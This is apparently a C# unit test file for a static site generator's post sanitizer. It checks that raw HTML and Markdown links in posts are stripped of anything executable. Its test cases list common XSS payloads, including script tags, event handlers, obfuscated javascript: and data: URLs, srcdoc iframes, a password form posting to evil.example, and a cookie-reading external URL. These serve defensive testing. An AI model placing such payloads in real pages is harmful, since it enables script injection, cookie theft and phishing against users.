using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using StaticCatalog.Diagnostics;
using StaticCatalog.Markdown;
using StaticCatalog.Posts;
using StaticCatalog.Sources;

namespace StaticCatalog.Tests.Safety;

/// <summary>Raw HTML and links in a post body never reach a reader as something that runs.</summary>
[Trait("Category", "Unit")]
public sealed class PostSanitizingTests
{
    private static readonly PostParser Parser = new(MarkdownPipelineFactory.Create());
    private static readonly HtmlParser Html = new();

    private static PostParseResult Parse(string body) =>
        Parser.Parse(new SourceFile("seeds/post.md", "post.md", "---\ntitle: Hostile\ndate: 2025-01-02\n---\n" + body));

    private static IDocument Body(PostParseResult result) => Html.ParseDocument(result.Post!.ContentHtml);

    /// <summary>Every attribute of every element: name and value.</summary>
    private static IEnumerable<(IElement Element, string Name, string Value)> Attributes(IDocument document) =>
        document.All.SelectMany(e => e.Attributes.Select(a => (e, a.Name, a.Value)));

    private static void AssertNothingRuns(IDocument document)
    {
        Assert.Empty(document.QuerySelectorAll("script, style, object, embed, form, button, textarea, select, base, meta, link"));
        Assert.DoesNotContain(Attributes(document), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain(Attributes(document), a => a.Name is "srcdoc"
            || (a.Name is "href" or "src" or "srcset" or "poster" or "action" or "formaction" or "xlink:href"
                && (a.Value.Replace("\t", "").Replace("\n", "").Contains("javascript:", StringComparison.OrdinalIgnoreCase)
                    || a.Value.Contains("data:", StringComparison.OrdinalIgnoreCase))));
        Assert.All(document.QuerySelectorAll("iframe"), frame => Assert.True(LiquidTags.IsEmbedUrl(frame.GetAttribute("src")), frame.OuterHtml));
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", 7)]
    [InlineData("<div>\n<script src=\"https://evil.example/x.js\"></script>\n</div>", 7)]
    [InlineData("Text <img src=\"x\" onerror=\"alert(1)\"> more", 7)]
    [InlineData("<p onclick=\"alert(1)\" onmouseover=alert(2)>Hi</p>", 7)]
    [InlineData("<a href=\"javascript:alert(1)\">click</a>", 7)]
    [InlineData("<a href=\"  JaVaScRiPt:alert(1)\">click</a>", 7)]
    [InlineData("<a href=\"java&#x09;script:alert(1)\">click</a>", 7)]
    [InlineData("<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", 7)]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>", 7)]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", 7)]
    [InlineData("<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>", 7)]
    [InlineData("<form action=\"https://evil.example/\"><input name=\"password\"><button>Sign in</button></form>", 7)]
    [InlineData("<div style=\"background:url(javascript:alert(1));position:fixed\">x</div>", 7)]
    [InlineData("<style>body{display:none}</style>", 7)]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">", 7)]
    [InlineData("<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", 7)]
    [InlineData("<img src=\"https://example.com/a.png\" srcset=\"javascript:alert(1) 1x, data:image/png;base64,AA 2x\">", 7)]
    [InlineData("<video controls poster=\"javascript:alert(1)\"><source src=\"javascript:alert(2)\"></video>", 7)]
    [InlineData("## Heading {onclick=\"alert(1)\"}", 7)]
    [InlineData("[docs](https://example.com/){onmouseover=\"alert(1)\" style=\"position:fixed\"}", 7)]
    [InlineData("[click](javascript:alert(1))", 7)]
    [InlineData("[click](<javascript:alert(1)>)", 7)]
    [InlineData("[click][ref]\n\n[ref]: javascript:alert(1)", 7)]
    [InlineData("![pic](data:image/png;base64,iVBORw0KGgo=)", 7)]
    [InlineData("<javascript:alert(1)>", 7)]
    [InlineData("<!-- a comment --><script>alert(1)</script>", 7)]
    [InlineData("<details><summary>More</summary>\n\n<script>alert(1)</script>\n\n</details>", 9)]
    public void Nothing_that_runs_reaches_the_page_and_the_author_is_told_where(string body, int line)
    {
        var result = Parse("Intro paragraph.\n\n" + body + "\n");

        Assert.NotNull(result.Post);
        AssertNothingRuns(Body(result));
        AssertNothingRuns(Html.ParseDocument(result.Post!.ExcerptHtml));
        // Body lines start at 5 (after four lines of front matter): the HTML or link is on line 7, or 9 inside <details>.
        Assert.NotEmpty(result.Diagnostics);
        Assert.All(result.Diagnostics, d => Assert.Equal((DiagnosticCodes.UnsafeContent, DiagnosticSeverity.Warning, line), (d.Code, d.Severity, d.Line)));
        Assert.StartsWith($"seeds/post.md({line},", result.Diagnostics[0].ToString());
    }

    [Fact]
    public void The_words_of_a_removed_link_and_the_description_of_a_removed_image_stay()
    {
        var body = Body(Parse("See [the settings](vscode://settings/x) and ![a diagram of the flow](data:image/png;base64,iVBORw0KGgo=).\n"));

        Assert.Equal("See the settings and a diagram of the flow.", body.QuerySelector("p")?.TextContent);
        Assert.Empty(body.QuerySelectorAll("a, img"));
    }

    [Fact]
    public void What_Markdown_and_safe_HTML_make_is_kept_when_a_post_holds_raw_HTML()
    {
        var result = Parse("""
            Press <kbd>Ctrl</kbd>+<kbd>S</kbd>, read the <a href="https://learn.microsoft.com/x" title="docs">docs</a> or <a href="/local/">this</a> or <a href="#usage">below</a>, mail <a href="mailto:team@example.com">us</a>.

            <details><summary>More</summary>

            Hidden **detail**.

            </details>

            ## Usage

            | Left | Right |
            |:-----|------:|
            | a    | 1     |

            - [x] done

            ```csharp
            var x = 1;
            ```

            {% youtube dQw4w9WgXcQ %}

            <img src="https://example.com/a.png" alt="A picture" width="300">
            """);

        Assert.Empty(result.Diagnostics);
        var body = Body(result);
        Assert.Equal(["Ctrl", "S"], body.QuerySelectorAll("kbd").Select(k => k.TextContent));
        Assert.Equal(["https://learn.microsoft.com/x", "/local/", "#usage", "mailto:team@example.com"],
            body.QuerySelector("p")!.QuerySelectorAll("a").Select(a => a.GetAttribute("href")));
        Assert.Equal("docs", body.QuerySelector("a[title]")?.GetAttribute("title"));
        Assert.Equal("More", body.QuerySelector("details > summary")?.TextContent);
        Assert.Equal("detail", body.QuerySelector("details strong")?.TextContent);
        Assert.Equal("usage", body.QuerySelector("h2")?.Id);
        Assert.Contains("text-align: right", body.QuerySelectorAll("td").Last().GetAttribute("style"));
        Assert.NotNull(body.QuerySelector("input[type=checkbox][checked][disabled]"));
        Assert.NotEmpty(body.QuerySelectorAll("pre code span[class]"));
        Assert.Equal("https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ", body.QuerySelector(".embed iframe")?.GetAttribute("src"));
        Assert.True(body.QuerySelector(".embed iframe")!.HasAttribute("allowfullscreen"));
        Assert.Equal("300", body.QuerySelector("img")?.GetAttribute("width"));
    }

    [Theory]
    [InlineData("https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ")]
    [InlineData("https://youtu.be/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ")]
    [InlineData("https://www.youtube.com/shorts/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ")]
    [InlineData("https://vimeo.com/123456789", "https://player.vimeo.com/video/123456789")]
    public void An_image_linking_to_a_video_is_our_embed_with_a_title_and_no_other_frame_is_written(string url, string player)
    {
        var result = Parse($"Intro.\n\n![The demo]({url})\n\n![A map](https://yandex.ru/video/preview/123)\n");

        Assert.Empty(result.Diagnostics);
        var frame = Assert.Single(Body(result).QuerySelectorAll("iframe"));
        Assert.Equal(player, frame.GetAttribute("src"));
        Assert.False(string.IsNullOrEmpty(frame.GetAttribute("title")));
        Assert.NotNull(frame.ParentElement?.QuerySelector("a.embed-link"));
    }

    [Fact]
    public void A_post_without_raw_HTML_is_rendered_as_Markdig_writes_it()
    {
        // Only posts with raw HTML go through the sanitizer; the excerpt marker alone is no raw HTML.
        var result = Parse("An excerpt.<!--excerpt_end-->\n\nA paragraph with a [link](https://example.com/).\n");

        Assert.Empty(result.Diagnostics);
        Assert.Contains("<p>A paragraph with a <a href=\"https://example.com/\">link</a>.</p>", result.Post!.ContentHtml);
    }

    [Fact]
    public void A_javascript_external_url_is_dropped_with_a_warning_at_its_value()
    {
        var result = Parser.Parse(new SourceFile("seeds/post.md", "post.md",
            "---\ntitle: Hostile\ndate: 2025-01-02\nexternal_url: javascript:alert(document.cookie)\n---\nBody.\n"));

        Assert.Null(result.Post!.ExternalUrl);
        var warning = Assert.Single(result.Diagnostics);
        Assert.Equal(DiagnosticCodes.UnsafeContent, warning.Code);
        Assert.Equal((4, 15), (warning.Line, warning.Column));
    }
}
